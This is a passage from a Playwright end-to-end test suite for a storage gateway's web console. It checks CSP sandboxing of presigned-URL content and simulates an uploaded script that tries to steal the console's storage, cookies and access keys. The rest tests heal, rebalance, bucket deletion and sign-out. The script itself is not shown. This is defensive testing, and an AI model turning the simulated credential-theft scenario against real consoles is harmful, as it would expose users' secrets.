      const answered = page.context().waitForEvent("response", { predicate: (r) => r.url() === presigned, timeout: 15_000 });
      const opened = page.context().waitForEvent("page");
      await page.evaluate(`void window.open(${JSON.stringify(presigned)}, "_blank")`);
      const popup = await opened;
      expect((await answered).headers()["content-security-policy"]).toBe("sandbox");
      await popup.waitForLoadState();
      expect(new URL(popup.url()).origin).toBe(gw.base);
      const direct = await page.context().newPage();
      const res = await direct.goto(presigned);
      expect(res?.headers()["content-security-policy"]).toBe("sandbox");
      expect(res?.headers()["x-content-type-options"]).toBe("nosniff");
      await direct.waitForTimeout(1500);
      expect(reports).toEqual([]);
      await popup.close();
      await direct.close();

      // Even in a browser that ignored the sandbox, the script runs on the gateway's origin, not the
      // console's: it finds no storage, cannot reach into the console's tab, and has no credential
      // to call the gateway with.
      const lax = await browser.newContext({ bypassCSP: true });
      try {
        const consolePage = await lax.newPage();
        await consolePage.goto(`${gw.consoleBase}/`);
        await signIn(consolePage);
        await consolePage.getByRole("button", { name: "Create bucket" }).waitFor();
        const laxOpened = lax.waitForEvent("page");
        await consolePage.evaluate(`void window.open(${JSON.stringify(presigned)}, "_blank")`);
        await (await laxOpened).waitForLoadState();
        await expect.poll(() => reports.length, { timeout: 15_000 }).toBe(1);
        const found = reports[0] as Record<string, string>;
        expect(found.origin).toBe(gw.base);
        expect(found.origin).not.toBe(gw.consoleBase);
        expect(found.storage).toBe("");
        expect(found.cookie).toBe("");
        expect(found.opener).toBe("blocked: SecurityError");
        expect(found.parent).toBe("none");
        expect(found.gateway).toBe("403");
        const all = JSON.stringify(found);
        expect(all).not.toContain(CREDENTIALS.secretAccessKey);
        expect(all).not.toContain("ASIA");
        // The console in that tab kept its credentials in memory only.
        expect(await storedText(consolePage)).not.toContain("ASIA");
      } finally {
        await lax.close();
      }
      expect((await fetch(`${gw.base}/_shardgate/health`)).status).toBe(200);
    } finally {
      server.close();
    }
  });

  it("shows the nodes dashboard, heals the bucket, refuses to delete a non-empty bucket, and signs out", async () => {
    // A bucket of 101 objects: its heal takes two batches (of at most 100).
    const many = "console-heal";
    expect((await s3.fetch(`${gw.base}/${many}`, { method: "PUT" })).status).toBe(200);
    const puts = await Promise.all(Array.from({ length: 101 }, (_, i) => s3.fetch(objectUrl(`o${i}.txt`, many), { method: "PUT", body: `${i}` })));
    expect(puts.map((r) => r.status)).toEqual(puts.map(() => 200));
    await page.getByRole("link", { name: "Nodes" }).click();
    await page.getByRole("heading", { name: "Storage nodes" }).waitFor();
    // Every upload of the earlier tests ended: their tray did not follow to this page.
    expect(await page.locator("section.upload-panel").isHidden()).toBe(true);
    await expect.poll(async () => (await page.locator("main").textContent()) ?? "").toMatch(/nodes healthy|Not available/);
    // The scrub in a few lines, its counters folded away.
    await expect.poll(() => page.locator("#scrub-summary").textContent()).toContain("Last full pass");
    expect(await page.locator("#scrub-summary details").getAttribute("open")).toBeNull();
    // Every node a local disk: the block cache is off by default, and the page says so.
    await expect.poll(() => page.locator("#cache-status").textContent()).toBe("Block cache: off. Every read goes to the nodes.");
    await page.getByLabel("Bucket", { exact: true }).selectOption(BUCKET);
    // A heal and a rebalance are admin POSTs, batch after batch: the secret is asked for once, at
    // the first (refused to the session), and signs every batch after it.
    const byKey = `${CREDENTIALS.accessKeyId} 200`;
    const heals = recordSent((method, url) => method === "POST" && url.pathname === "/_shardgate/admin/heal");
    await page.getByRole("button", { name: "Start heal" }).click();
    await withSecret();
    await expect.poll(() => page.locator(".heal-out").textContent(), { timeout: 30_000 }).toMatch(/Done 4 objects checked/);
    expect(heals.sent).toEqual(["session 403", byKey]);
    await page.getByLabel("Bucket", { exact: true }).selectOption(many);
    await page.getByRole("button", { name: "Start heal" }).click();
    await withSecret();
    await expect.poll(() => page.locator(".heal-out").textContent(), { timeout: 30_000 }).toMatch(/Done 101 objects checked/);
    heals.stop();
    expect(heals.sent).toEqual(["session 403", byKey, "session 403", byKey, byKey]);
    // Rebalancing: shallow steps of the scrub's walk until a pass finds nothing misplaced; then
    // every node card says what it stores, and the six of them hold every shard file written.
    const steps = recordSent((method, url) => method === "POST" && url.pathname === "/_shardgate/admin/scrub");
    await page.getByRole("button", { name: "Rebalance now" }).click();
    await withSecret();
    await expect.poll(() => page.locator("#rebalance-status").textContent(), { timeout: 60_000 }).toContain("every shard file is where placement puts it");
    steps.stop();
    expect(steps.sent).toEqual(["session 403", ...steps.sent.slice(1).map(() => byKey)]);
    expect(steps.sent.length).toBeGreaterThan(1);
    await expect.poll(async () => (await page.locator(".node-grid").textContent()) ?? "", { timeout: 30_000 }).toMatch(/Stores\d[\d,]* shard files/);
    expect(await page.locator(".node-grid").textContent()).not.toContain("draining");
    await page.evaluate("window.scrollTo(0, 0)");
    await shot("nodes");

    await page.getByRole("link", { name: "Buckets" }).click();
    await page.getByRole("button", { name: `Delete bucket ${BUCKET}` }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Delete bucket" }).click();
    await withSecret();
    await expect.poll(() => page.locator(".toast.error").textContent()).toContain("not empty");

    // Phone width: nothing runs off the side of the screen.
    await page.setViewportSize({ width: 390, height: 800 });
    await page.getByRole("link", { name: BUCKET }).click();
    await page.getByRole("link", { name: "album" }).waitFor();
    expect(await page.evaluate("document.documentElement.scrollWidth")).toBeLessThanOrEqual(390);
    await page.setViewportSize({ width: 1280, height: 800 });

    await page.getByRole("button", { name: "Sign out" }).click();
    await page.getByRole("button", { name: "Sign in" }).waitFor();
    expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
    expect(pageErrors).toEqual([]);
  });
});
